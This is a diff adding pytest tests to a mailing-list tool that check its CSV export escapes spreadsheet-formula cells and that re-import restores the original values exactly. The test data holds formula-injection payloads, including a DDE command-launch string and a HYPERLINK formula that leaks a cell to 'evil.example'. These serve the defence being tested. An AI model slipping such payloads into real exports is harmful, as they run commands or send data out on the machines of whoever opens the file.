@@ -15,8 +15,9 @@ from pathlib import Path
 import pytest
 
 from wip_mailer import db
-from wip_mailer.audience import lists
+from wip_mailer.audience import csv_import, lists, subscribers
 from wip_mailer.audience.addresses import address_from_cell, country_code, language_code, normalise_tags
+from wip_mailer.audience.csv_reader import escape_formula, unescape_formula
 
 DATA = Path(__file__).parent / "data" / "csv"
 
@@ -192,3 +193,64 @@ def test_address_cells(raw: str, expected: tuple[str, str]) -> None:
 
 def test_tags_split_on_commas_and_semicolons() -> None:
     assert normalise_tags("Press; partner,EU ;;") == ["eu", "partner", "press"]
+
+
+FORMULA_NAMES = [
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+]
+
+
+def test_export_escapes_formulas_and_reimport_gives_the_names_back(cli, engine, settings, stampa,
+                                                                   workdir) -> None:
+    people = {f"f{i}@example.org": name for i, name in enumerate(FORMULA_NAMES)}
+    people |= {"anna@example.org": "-Anna-", "tel@example.org": "+39 011 011 0000",
+               "apos@example.org": "'=already quoted", "plain@example.org": "Plain 'quote' name",
+               "-dash@example.org": "Dash"}
+    for email, name in people.items():
+        subscribers.add_subscriber(engine, settings, email, ["stampa"], confirmed=True,
+                                   profile=subscribers.Profile(name=name, organisation="=1+1"))
+    out = workdir / "export.csv"
+    assert cli("subscribers", "export", "--list", "stampa", "--out", str(out)).exit_code == 0
+
+    rows = {r["email"]: r for r in csv.DictReader(out.open(encoding="utf-8", newline=""))}
+    for email, name in people.items():
+        cell = rows[escape_formula(email)]["name"]
+        assert cell == (f"'{name}" if name[0] in "=+-@'" else name)
+    assert rows["'-dash@example.org"]["organisation"] == "'=1+1"
+    # No cell of the file starts the way a spreadsheet formula does.
+    cells = [cell for row in csv.reader(out.open(encoding="utf-8", newline="")) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    # Into a fresh database: the import takes off exactly the ' the export put on.
+    engine_copy = db.create_database(f"sqlite:///{workdir / 'copy.db'}")
+    with db.session_scope(engine_copy) as session:
+        lists.create_list(session, "stampa", double_opt_in=False)
+    report = csv_import.import_csv(engine_copy, settings, out, "stampa")
+    assert (report.added, report.rejected) == (len(people), [])
+    with db.session_scope(engine_copy) as session:
+        back = {email: subscribers.show_subscriber(session, email) for email in people}
+    engine_copy.dispose()
+    assert {email: p["name"] for email, p in back.items()} == people
+    assert {p["organisation"] for p in back.values()} == {"=1+1"}
+
+
+@pytest.mark.parametrize(("cell", "escaped"), [
+    ("=1+1", "'=1+1"), ("+39", "'+39"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("'=x", "''=x"), ("'x", "'x"), ("Anna", "Anna"), ("", ""), (" =x", " =x"), ("a=b", "a=b"),
+])
+def test_formula_escape_is_undone_exactly(cell: str, escaped: str) -> None:
+    assert escape_formula(cell) == escaped
+    assert unescape_formula(escaped) == cell
+
+
+def test_a_header_with_an_open_quote_is_one_sentence(cli, stampa, workdir) -> None:
+    source = workdir / "x.csv"
+    source.write_text('email,"name\na@example.org,Anna\n', encoding="utf-8")
+    result = cli("subscribers", "import", str(source), "--list", "stampa")
+    assert (result.exit_code, result.stderr) == (1, (
+        f"Error: The file {source} cannot be read: its first line has a quote (\") that is not closed "
+        "before line 2, which is a row of its own; fix that line.\n"))
+    assert _people(cli) == {}
